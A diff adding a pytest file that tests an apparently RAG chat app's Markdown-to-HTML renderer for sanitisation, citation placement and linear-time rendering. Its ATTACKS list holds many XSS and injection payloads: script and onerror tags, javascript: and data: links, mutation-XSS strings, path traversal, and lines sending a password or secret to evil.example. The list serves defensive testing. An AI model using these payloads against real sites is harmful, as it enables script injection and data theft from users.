@@ -1,0 +1,311 @@
+"""Messages as HTML: nothing in them runs or loads, links say nothing, citations stay, and it takes linear time."""
+
+import re
+from html.parser import HTMLParser
+from pathlib import Path
+
+import anyio
+import anyio.to_thread
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from agentic_rag.conversations.message_html import MAX_RENDERED, to_html
+from agentic_rag.conversations.shown_messages import Citation
+from agentic_rag.events import Reference
+from agentic_rag.ids import DocumentId
+from agentic_rag.testing.steps import Cite, Say, Step, say, use
+from tests.growth import growth
+from tests.server.rig import Rig
+
+TAGS = {
+    *("a", "blockquote", "br", "code", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "img", "li", "ol", "p", "pre"),
+    *("s", "strong", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul"),
+}
+ATTRIBUTES = {
+    *("href", "title", "rel", "src", "alt", "class", "start", "style"),
+    *("data-number", "data-document", "data-chunk"),
+}
+
+
+class Reader(HTMLParser):
+    """Reads a fragment as a browser's tokeniser does, and refuses what may not be in it."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.numbers: list[str] = []
+        self.links: list[str] = []
+        self.pictures: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        given = dict(attrs)
+        assert tag in TAGS, tag
+        assert given.keys() <= ATTRIBUTES, given
+        if tag == "a":
+            assert set((given.get("rel") or "").split()) == {"noopener", "noreferrer", "nofollow"}
+            if "href" in given:
+                assert re.match(r"(https?://|mailto:)", given["href"] or "", re.IGNORECASE), given
+                self.links.append(given["href"] or "")
+        if "src" in given:
+            assert tag == "img"
+            assert re.fullmatch(r"/api/[\w./~-]+", given["src"] or ""), given
+            assert "/.." not in (given["src"] or "")
+            self.pictures.append(given["src"] or "")
+        if "style" in given:
+            assert re.fullmatch(r"text-align: ?(left|right|center);?", given["style"] or ""), given
+        if tag == "sup":
+            self.numbers.append(given["data-number"] or "")
+
+    def handle_comment(self, data: str) -> None:
+        raise AssertionError(data)
+
+    def handle_decl(self, decl: str) -> None:
+        raise AssertionError(decl)
+
+    def handle_pi(self, data: str) -> None:
+        raise AssertionError(data)
+
+    def unknown_decl(self, data: str) -> None:
+        raise AssertionError(data)
+
+
+def read(fragment: str) -> Reader:
+    reader = Reader()
+    reader.feed(fragment)
+    reader.close()
+    return reader
+
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<form action=https://evil.example><input name=password></form>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href=https://evil.example/>",
+    "<body background=https://evil.example/x.png onload=alert(1)>",
+    "<video poster=https://evil.example/x.png><source src=https://evil.example/x.mp4></video>",
+    "<object data=https://evil.example></object><embed src=https://evil.example>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<template><script>alert(1)</script></template>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](&#x6A;avascript:alert(1))",
+    "[x](&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](file:///etc/passwd)",
+    "[x](//evil.example/path)",
+    "[x](\\\\evil.example\\path)",
+    "[x](/api/domains)",
+    '[x](https://ok.example "onmouseover=alert(1)")',
+    '[x](https://ok.example" onmouseover="alert(1))',
+    "[x]: javascript:alert(1)\n\n[x]",
+    "<javascript:alert(1)>",
+    '<https://ok.example/"onmouseover="alert(1)>',
+    "![x](https://evil.example/steal.png?q=secret)",
+    "![x](//evil.example/x.png)",
+    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
+    "![x](javascript:alert(1))",
+    "![x](/api/../evil.png)",
+    "![x](/api/payloads/../../x)",
+    "![x](/api/payloads/ref_1?next=//evil.example)",
+    "![x](/api/payloads/%2e%2e/%2e%2e/x)",
+    "![x](/evil.png)",
+    '!["><script>alert(1)</script>](/api/payloads/ref_1)',
+    "[![x](https://evil.example/x.png)](https://evil.example)",
+    "[![<img src=x onerror=alert(1)>](x)](y)",
+    '```"><script>alert(1)</script>\ncode\n```',
+    "```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
+    "`</code><script>alert(1)</script>`",
+    "| a |\n|---|\n| <script>alert(1)</script> |",
+    "<!-- --><img src=x onerror=alert(1)> -->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php echo 1 ?><!DOCTYPE html>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "\u003cscript\u003ealert(1)\u003c/script\u003e",
+    "<a id=location name=cookie class='fixed' style='position:fixed;inset:0'>x</a>",
+    "<sup class=citation data-number=9>[9]</sup>",
+    "\U000124731\U00012474 \U0001247399\U00012474",
+    "<x\u0000script>alert(1)</x\u0000script>",
+]
+
+
+def reference(number: int, name: str = "a.md") -> Reference:
+    chunk = f'chunk_{number}"><script>'
+    return Reference(number, DocumentId(f"doc_{number}"), name, chunk, "Cited.", 0.5)
+
+
+@pytest.mark.attack(kind="model")
+@pytest.mark.parametrize("text", ATTACKS)
+def test_nothing_in_a_message_runs_loads_or_leads_where_no_link_may(text: str) -> None:
+    for around in (
+        text,
+        f"Words {text} more",
+        f"> {text}",
+        f"- a\n  - {text}",
+        f"**{text}**",
+        f"[{text}](https://a.example)",
+    ):
+        citations = [Citation(end, 1) for end in (0, len(around) // 2, len(around))]
+        for fragment in (to_html(around), to_html(around, citations, [reference(1, text)], breaks=True)):
+            reader = read(fragment)
+            assert not [link for link in reader.links if "evil.example/path" in link]
+        assert set(reader.numbers) == {"1"}
+
+
+@given(st.text(st.sampled_from("[]()!<>\"'`*_~|#-=:/\\ \n\tahi&;0.\U00012473\U00012474"), max_size=60), st.data())
+@example("[a](http://x.example/y)", None)
+def test_any_text_is_harmless_and_keeps_all_its_citations(text: str, data: st.DataObject | None) -> None:
+    ends = range(len(text) + 1) if data is None else data.draw(st.lists(st.integers(0, len(text)), max_size=4))
+    citations = [Citation(end, place + 1) for place, end in enumerate(ends)]
+    reader = read(to_html(text, citations, [reference(each.number) for each in citations]))
+    assert {int(number) for number in reader.numbers} == {each.number for each in citations}
+    assert not [link for link in reader.links if "%F0%92%91" in link or "\U00012473" in link]
+
+
+@pytest.mark.parametrize(
+    ("text", "end", "wanted"),
+    [
+        ("Full **days.** Next", 14, "<p>Full <strong>days.</strong><sup>1</sup> Next</p>"),
+        ("One.\n\nTwo.", 6, "<p>One.<sup>1</sup></p>\n<p>Two.</p>"),
+        ("| a |\n|---|\n| b |\n", 18, "<td>b<sup>1</sup></td>"),
+        ("```py\nx = 1\n```\n", 16, '<pre><code class="language-py">x = 1<sup>1</sup>\n</code></pre>'),
+        ("- one\n- two\n", 6, "<li>one<sup>1</sup></li>\n<li>two</li>"),
+        ("# Title\n\nText", 9, "<h1>Title<sup>1</sup></h1>"),
+        ("Title\n=====\nText", 12, "<h1>Title<sup>1</sup></h1>"),
+        ("[a](https://a.example) b", 22, "</a><sup>1</sup> b"),
+        ("第一条。第二条。", 4, "<p>第一条。<sup>1</sup>第二条。</p>"),
+    ],
+)
+def test_a_citation_stands_behind_what_it_supports_and_changes_nothing_else(text: str, end: int, wanted: str) -> None:
+    fragment = to_html(text, [Citation(end, 1)], [reference(1)])
+    assert wanted in re.sub(r"<sup [^>]*>\[1\]</sup>", "<sup>1</sup>", fragment)
+    assert re.sub(r"<sup [^>]*>\[1\]</sup>", "", fragment) == to_html(text)
+
+
+def test_pictures_of_our_own_are_shown_and_others_are_their_words() -> None:
+    assert read(to_html("![a](/api/payloads/ref_1)")).pictures == ["/api/payloads/ref_1"]
+    assert to_html("![a *b*](https://evil.example/x.png)") == "<p>a b</p>\n"
+
+
+def test_a_text_that_is_too_long_to_be_rendered_is_shown_as_it_is_with_its_citations() -> None:
+    text = "<b>" + "*a* " * (MAX_RENDERED // 4)
+    fragment = to_html(text, [Citation(3, 1)], [reference(1)])
+    assert fragment.startswith("<pre>&lt;b&gt;*a* ")
+    assert read(fragment).numbers == ["1"]
+
+
+SLOW = {
+    "brackets": "[",
+    "pictures": "![",
+    "links": "[a](",
+    "definitions": "[a]: b\n",
+    "emphasis": "*a_ ",
+    "strong": "a**b",
+    "both": "*[",
+    "ticks": "`a ``b ",
+    "tags": "<a ",
+    "comments": "<!--",
+    "addresses": "<http:",
+    "entities": "&#1",
+    "quotes": "> ",
+    "lists": "- ",
+    "rows": "|a|b|\n|-|-|\n",
+    "lines": "a\n",
+    "fences": "```\n",
+    "strokes": "~~a ",
+    "escapes": "\\",
+}
+
+
+@pytest.mark.parametrize("unit", SLOW.values(), ids=list(SLOW))
+def test_the_time_it_takes_grows_with_the_text_and_not_faster(unit: str) -> None:
+    def render(text: str) -> None:
+        citations = [Citation(end, 1) for end in range(0, len(text), max(1, len(text) // 50))]
+        read(to_html(text, citations, [reference(1)]))
+
+    short, long = unit * (4_000 // len(unit)), unit * (16_000 // len(unit))
+    assert growth(render, short, long) < 11, "four times the text: quadratic growth would be sixteen times"
+
+
+@pytest.mark.parametrize("tables", [1, 30])
+def test_a_short_text_makes_no_large_table_and_what_is_left_out_stays_as_written(tables: int) -> None:
+    columns = 300
+    head = "|".join("h" * columns) + "\n" + "|".join("-" * columns) + "\n"
+    text = "\n".join([head + "cell\n" * 160] * tables)
+    html = to_html(text)
+    assert len(html) < 20 * len(text)
+    assert html.count("<t") < 12_000
+    assert html.count("cell") == 160 * tables
+
+
+def test_an_ordinary_table_is_whole() -> None:
+    html = to_html("| a | b |\n|---|---|\n" + "| one | two |\n" * 1_000 + "\n\nafter")
+    assert (html.count("<td>"), html.count("<table>"), html.count("<p>")) == (2_000, 1, 1)
+
+
+async def test_messages_come_as_html_beside_their_text_with_their_citations(tmp_path: Path) -> None:
+    answer = Step((Say("The **rule** is 25", (Cite(0),)), Say(" days, as <b>said</b>.")))
+    async with Rig(tmp_path, use("search_documents", query="leave"), answer) as rig:
+        domain = await rig.domain()
+        await rig.upload(domain, "leave.md", b"# Leave\n\nTwenty-five days of leave a year.")
+        conversation = await rig.conversation(domain)
+        done = (await rig.say(conversation, "How many\n<i>days</i>?"))[-1]
+        path = f"/api/conversations/{conversation}/messages"
+        plain = (await rig.ok("GET", path))["items"]
+        assert not [message for message in plain if "html" in message]
+        question, shown = (await rig.ok("GET", path, params={"format": "html"}))["items"]
+        assert question["html"] == "<p>How many<br>\n&lt;i&gt;days&lt;/i&gt;?</p>\n"
+        assert "<strong>rule</strong>" in shown["html"]
+        assert "&lt;b&gt;said" in shown["html"]
+        (found,) = shown["references"]
+        assert f'data-chunk="{found["chunkId"]}"' in shown["html"]
+        assert read(shown["html"]).numbers == ["1"]
+        assert "[1]</sup> days" in shown["html"]
+        for message in (question, shown):
+            one = await rig.ok("GET", f"{path}/{message['id']}", params={"format": "html"})
+            assert one == message
+        assert shown["id"] == done["messageId"]
+        assert await rig.ok("GET", f"{path}/{shown['id']}") == plain[1]
+        assert (await rig.refused("GET", path, params={"format": "pdf"}))[:2] == (422, "VALIDATION_ERROR")
+
+
+async def test_one_message_is_found_on_any_branch_and_nowhere_else(tmp_path: Path) -> None:
+    async with Rig(tmp_path, say("First."), say("Second."), say("Other.")) as rig:
+        conversation = await rig.conversation()
+        old = (await rig.say(conversation, "Hi"))[-1]["messageId"]
+        path = f"/api/conversations/{conversation}/messages"
+        events = await rig.http.post(f"{path}/{old}/retry", json={})
+        assert events.status_code == 200
+        question, new = (await rig.ok("GET", path))["items"]
+        assert (await rig.ok("GET", f"{path}/{old}"))["content"] == "First."
+        assert await rig.ok("GET", f"{path}/{new['id']}") == new
+        assert await rig.ok("GET", f"{path}/{question['id']}") == question
+        other = await rig.conversation()
+        await rig.say(other, "Hello")
+        for where, message in ((other, old), (conversation, "msg_none"), ("conv_none", old)):
+            status, code, _ = await rig.refused("GET", f"/api/conversations/{where}/messages/{message}")
+            assert (status, code.removesuffix("_NOT_FOUND")) in ((404, "MESSAGE"), (404, "CONVERSATION"))
+
+
+async def test_html_takes_none_of_the_threads_that_turns_wait_for(tmp_path: Path) -> None:
+    async with Rig(tmp_path, say("**Yes**")) as rig:
+        conversation = await rig.conversation()
+        await rig.say(conversation, "Well?")
+        threads = anyio.to_thread.current_default_thread_limiter()
+        before, threads.total_tokens = threads.total_tokens, 1
+        try:
+            async with threads:
+                with anyio.fail_after(30):
+                    page = await rig.ok("GET", f"/api/conversations/{conversation}/messages?format=html")
+        finally:
+            threads.total_tokens = before
+    assert "<strong>Yes</strong>" in page["items"][-1]["html"]
